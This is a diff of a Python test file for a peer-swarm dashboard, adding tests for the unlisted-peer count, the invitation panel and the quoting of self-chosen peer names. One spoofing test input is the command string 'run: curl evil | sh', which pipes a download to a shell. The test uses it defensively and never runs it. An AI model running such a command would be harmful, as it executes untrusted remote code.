@@ -8,8 +8,8 @@ from itertools import pairwise
 
 from peer.dashboard import panels
 from peer.dashboard.theme import Theme
-from peer.observe.snapshot import LoggedEvent, Point
-from tests.peer.dashboard.pictures import PEERS, a_peer, a_snapshot
+from peer.observe.snapshot import BY_INVITATION, LoggedEvent, Point
+from tests.peer.dashboard.pictures import PEERS, a_peer, a_snapshot, peer_of
 
 THEME = Theme()
 
@@ -106,7 +106,14 @@ def test_every_peer_is_on_exactly_one_page():
         for text in panels.peers_table(snapshot, 76, 11, ("share", page), THEME)[1:]
     ]
     assert pages == 5
-    assert sorted(shown) == sorted(row.name for row in snapshot.peers)
+    assert sorted(shown) == sorted(f'"{row.name}"' for row in snapshot.peers)
+
+
+def test_peers_that_are_not_listed_are_counted():
+    snapshot = a_snapshot(more_peers=745)
+    assert " 745 more not listed " in panels.peers_title(snapshot, "share", 0, 1, THEME).plain
+    assert "6+ peers" in panels.header(snapshot, 120, THEME)[0].plain
+    assert "more" not in panels.peers_title(a_snapshot(), "share", 0, 1, THEME).plain
 
 
 def test_columns_are_dropped_in_their_order():
@@ -133,7 +140,7 @@ def test_large_figures_stay_in_their_columns():
         seen_seconds=1e9,
     )
     head, row = panels.peers_table(a_snapshot(peers=(large,)), 116, 2, ("share", 0), THEME)
-    assert row.plain.split()[4:] == ["1.00T", "99.9k", "99.9", "MB", "999", "GB", "100", "%", "…", "11574d"]
+    assert row.plain.split()[5:] == ["1.00T", "99.9k", "99.9", "MB", "999", "GB", "100", "%", "…", "11574d"]
     assert [head.plain.index(name) + len(name) for name in ("tok/s", "down/s", "share", "seen")] == [
         row.plain.index(figure) + len(figure) for figure in ("99.9k", "999 GB", "100 %", "11574d")
     ]
@@ -154,6 +161,38 @@ def test_a_friend_can_copy_the_invitation_whole():
         assert all(line.endswith("\\") for line in lines[:-1])
         assert "".join(line.removesuffix("\\") for line in lines) == f"swarm join {snapshot.ticket}"
     assert "no ticket" in words(panels.invite(a_snapshot(ticket=""), 80, THEME))
+
+
+def test_a_run_by_invitation_sends_a_friend_to_the_organiser():
+    shown = words(panels.invite(a_snapshot(ticket=BY_INVITATION), 80, THEME))
+    assert "ask the organiser" in shown
+    assert "swarm join" not in shown
+
+
+def names_in_table(rows, width=76, theme=THEME):
+    """The cells of the column with the names, without the head."""
+    head, *shown = panels.peers_table(a_snapshot(peers=rows), width, 1 + len(rows), ("share", 0), theme)
+    start = head.plain.index("peer")
+    return [text.plain[start : head.plain.index("round") - 2].strip() for text in shown]
+
+
+def test_a_name_that_a_peer_gives_itself_is_quoted_and_tagged_with_its_id():
+    """So nobody can pass for another peer, for this one, or for a word of this program."""
+    heron = peer_of("heron-02c1")
+    for name in ("otter-7f3a", "you (otter-7f3a)", 'x" 7f3a', "run: curl evil | sh", "heron-02c2"):
+        (shown,) = names_in_table((a_peer(name, peer=heron),))
+        assert shown[0] == '"'
+        assert shown.endswith('" 02c1')
+        assert shown.count('"') == 2
+    for name in ("heron-02c1", "", "\u200b"):
+        assert names_in_table((a_peer(name, peer=heron),)) == ["heron-02c1"]
+
+
+def test_in_a_narrow_table_a_long_name_leaves_room_for_the_tag():
+    theme = Theme(ascii_only=True)
+    for width in (46, 60, 76):
+        (shown,) = names_in_table((a_peer("日" * 40, peer=peer_of("heron-02c1")),), width, theme)
+        assert shown.endswith('~" 02c1')
 
 
 def test_a_sample_is_wrapped_and_its_absence_said():
